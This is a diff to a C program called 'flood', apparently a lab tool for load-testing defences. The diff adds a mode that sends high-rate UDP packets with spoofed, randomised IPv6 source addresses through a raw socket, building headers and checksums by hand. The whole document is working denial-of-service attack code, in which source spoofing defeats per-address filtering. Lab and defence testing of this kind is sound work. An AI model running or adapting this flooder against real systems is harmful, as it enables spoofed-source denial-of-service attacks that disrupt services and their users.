@@ -4,6 +4,12 @@
  * machine's cc (scripts/lab/flood.ts) and run inside the lab's attacker namespace only.
  *
  *   flood -d DST -p PORT -r PER_SECOND -t SECONDS -f PAYLOADS -l PAYLOAD_SIZE SRC [SRC ...]
+ *   flood -d DST6 -p PORT -r PER_SECOND -t SECONDS -f PAYLOADS -l PAYLOAD_SIZE -S PREFIX6 -n NETWORKS
+ *
+ * The second form spoofs IPv6 sources: each datagram from a random address in one of NETWORKS
+ * /64s under PREFIX6 (its first 48 bits; the 16 bits after them pick the /64, the last 64 are
+ * random), or in PREFIX6's own /64 alone with -n 1. It sends through a raw IPv6 socket with the
+ * header included (IPV6_HDRINCL), so the lab's attacker needs no address of each.
  *
  * PAYLOADS holds payloads of PAYLOAD_SIZE bytes back to back. Prints one line of figures at the
  * end: "sent N failed M seconds S".
@@ -18,6 +24,11 @@
 #include <sys/socket.h>
 #include <time.h>
 #include <unistd.h>
+#include <netinet/ip6.h>
+
+#ifndef IPV6_HDRINCL
+#define IPV6_HDRINCL 36
+#endif
 
 #define MAX_RATE 200000
 #define MAX_SECONDS 120
@@ -61,11 +72,59 @@ static socklen_t parse_address(const char *host, int port, struct sockaddr_stora
     return 0;
 }
 
+/* xorshift64: fast, seeded from the clock; the sources need only look random to R2. */
+static unsigned long long rng_state = 88172645463325252ULL;
+static unsigned long long next_random(void) {
+    rng_state ^= rng_state << 13;
+    rng_state ^= rng_state >> 7;
+    rng_state ^= rng_state << 17;
+    return rng_state;
+}
+
+/* The ones' complement sum of `len` bytes, folded later. */
+static unsigned long sum16(const unsigned char *p, size_t len, unsigned long sum) {
+    for (size_t i = 0; i + 1 < len; i += 2) sum += (unsigned long)((p[i] << 8) | p[i + 1]);
+    if (len & 1) sum += (unsigned long)(p[len - 1] << 8);
+    return sum;
+}
+
+/* Builds IPv6 + UDP + payload into `out` from `src`; returns its length. */
+static size_t build_ipv6(unsigned char *out, const struct in6_addr *src, const struct in6_addr *dst, int port,
+                         const unsigned char *payload, size_t size, unsigned short sport) {
+    size_t udp_len = 8 + size;
+    memset(out, 0, 48);
+    out[0] = 0x60;
+    out[4] = (unsigned char)(udp_len >> 8);
+    out[5] = (unsigned char)(udp_len & 0xff);
+    out[6] = 17;  /* UDP */
+    out[7] = 64;  /* hop limit */
+    memcpy(out + 8, src, 16);
+    memcpy(out + 24, dst, 16);
+    unsigned char *udp = out + 40;
+    udp[0] = (unsigned char)(sport >> 8);
+    udp[1] = (unsigned char)(sport & 0xff);
+    udp[2] = (unsigned char)(port >> 8);
+    udp[3] = (unsigned char)(port & 0xff);
+    udp[4] = (unsigned char)(udp_len >> 8);
+    udp[5] = (unsigned char)(udp_len & 0xff);
+    memcpy(udp + 8, payload, size);
+    /* pseudo-header: addresses, upper-layer length, next header */
+    unsigned long sum = sum16(out + 8, 32, 0);
+    sum += (unsigned long)udp_len + 17;
+    sum = sum16(udp, udp_len, sum);
+    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
+    unsigned short check = (unsigned short)~sum;
+    if (check == 0) check = 0xffff;
+    udp[6] = (unsigned char)(check >> 8);
+    udp[7] = (unsigned char)(check & 0xff);
+    return 40 + udp_len;
+}
+
 int main(int argc, char **argv) {
-    const char *dst = NULL, *file = NULL;
-    long port = 0, rate = 0, seconds = 0, size = 0;
+    const char *dst = NULL, *file = NULL, *spoof = NULL;
+    long port = 0, rate = 0, seconds = 0, size = 0, networks = 0;
     int opt;
-    while ((opt = getopt(argc, argv, "d:p:r:t:f:l:")) != -1) {
+    while ((opt = getopt(argc, argv, "d:p:r:t:f:l:S:n:")) != -1) {
         switch (opt) {
         case 'd': dst = optarg; break;
         case 'p': port = strtol(optarg, NULL, 10); break;
@@ -73,6 +132,8 @@ int main(int argc, char **argv) {
         case 't': seconds = strtol(optarg, NULL, 10); break;
         case 'f': file = optarg; break;
         case 'l': size = strtol(optarg, NULL, 10); break;
+        case 'S': spoof = optarg; break;
+        case 'n': networks = strtol(optarg, NULL, 10); break;
         default: return usage("unknown option");
         }
     }
@@ -82,7 +143,8 @@ int main(int argc, char **argv) {
     if (rate < 1 || rate > MAX_RATE) return usage("-r must be 1-200000");
     if (seconds < 1 || seconds > MAX_SECONDS) return usage("-t must be 1-120");
     if (size < 1 || size > MAX_PAYLOAD) return usage("-l must be 1-1500");
-    if (nsources < 1 || nsources > MAX_SOURCES) return usage("give 1-1024 source addresses");
+    if (spoof == NULL && (nsources < 1 || nsources > MAX_SOURCES)) return usage("give 1-1024 source addresses");
+    if (spoof != NULL && (networks < 1 || networks > 65536)) return usage("-n must be 1-65536");
 
     static unsigned char payloads[MAX_PAYLOADS * MAX_PAYLOAD];
     FILE *f = fopen(file, "rb");
@@ -96,6 +158,51 @@ int main(int argc, char **argv) {
     socklen_t tolen = parse_address(dst, (int)port, &to);
     if (tolen == 0) return usage("-d must be an IPv4 or IPv6 literal");
 
+    signal(SIGTERM, on_signal);
+    signal(SIGINT, on_signal);
+    if (spoof != NULL) {
+        struct in6_addr prefix;
+        if (to.ss_family != AF_INET6 || inet_pton(AF_INET6, spoof, &prefix) != 1) return usage("-S and -d must be IPv6 literals");
+        int s = socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);
+        int on = 1;
+        if (s < 0 || setsockopt(s, IPPROTO_IPV6, IPV6_HDRINCL, &on, sizeof(on)) != 0) {
+            fprintf(stderr, "flood: cannot open a raw IPv6 socket with the header included: %s\n", strerror(errno));
+            return 1;
+        }
+        rng_state ^= (unsigned long long)(now_seconds() * 1e9);
+        struct in6_addr dst6 = ((struct sockaddr_in6 *)&to)->sin6_addr;
+        /* a raw IPv6 socket reads sin6_port as the protocol: 0 or the socket's own */
+        ((struct sockaddr_in6 *)&to)->sin6_port = 0;
+        static unsigned char packet[48 + MAX_PAYLOAD];
+        const double start = now_seconds();
+        const double end = start + (double)seconds;
+        unsigned long sent = 0, failed = 0, next = 0;
+        const struct timespec tick = {0, 500000};
+        for (double t = start; t < end && !stopping; t = now_seconds()) {
+            unsigned long due = (unsigned long)((t - start) * (double)rate);
+            while (next < due && !stopping) {
+                struct in6_addr src = prefix;
+                unsigned long long r = next_random();
+                if (networks > 1) {
+                    unsigned int net = (unsigned int)(r % (unsigned long long)networks);
+                    src.s6_addr[6] = (unsigned char)(net >> 8);
+                    src.s6_addr[7] = (unsigned char)(net & 0xff);
+                }
+                unsigned long long host = next_random();
+                for (int b = 0; b < 8; b++) src.s6_addr[8 + b] = (unsigned char)(host >> (8 * b));
+                const unsigned char *p = payloads + (next % npayloads) * (size_t)size;
+                size_t len = build_ipv6(packet, &src, &dst6, (int)port, p, (size_t)size, (unsigned short)(1024 + (r >> 32) % 60000));
+                if (sendto(s, packet, len, 0, (struct sockaddr *)&to, tolen) == (ssize_t)len) sent++;
+                else if (failed++ == 0) fprintf(stderr, "flood: first send failed: %s\n", strerror(errno));
+                next++;
+            }
+            nanosleep(&tick, NULL);
+        }
+        printf("sent %lu failed %lu seconds %.3f\n", sent, failed, now_seconds() - start);
+        close(s);
+        return 0;
+    }
+
     static int sockets[MAX_SOURCES];
     for (int i = 0; i < nsources; i++) {
         struct sockaddr_storage from;
@@ -108,8 +215,6 @@ int main(int argc, char **argv) {
         }
     }
 
-    signal(SIGTERM, on_signal);
-    signal(SIGINT, on_signal);
     const double start = now_seconds();
     const double end = start + (double)seconds;
     unsigned long sent = 0, failed = 0, next = 0;
